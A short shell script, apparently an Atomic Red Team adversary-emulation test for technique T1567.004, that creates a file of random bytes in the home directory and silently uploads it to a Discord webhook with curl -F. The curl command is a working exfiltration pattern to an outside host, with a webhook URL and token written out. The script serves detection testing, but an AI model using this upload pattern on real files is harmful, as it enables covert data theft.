# Atomic Red Team 40c44d16: one multipart file to a webhook by curl -F.
set -e
head -c 88000 /dev/urandom >"$HOME/out.zip"
curl -sf -o /dev/null -F 'payload_json={"content":"T1567.004"}' -F "file1=@$HOME/out.zip" \
  https://discord.com/api/webhooks/1175338922043711508/Zk3nT9xqBvLw2JcR8sYdFh5uPe7gMa1oKi6bXt0VrQlNjCwEzSyDpHf4uGm
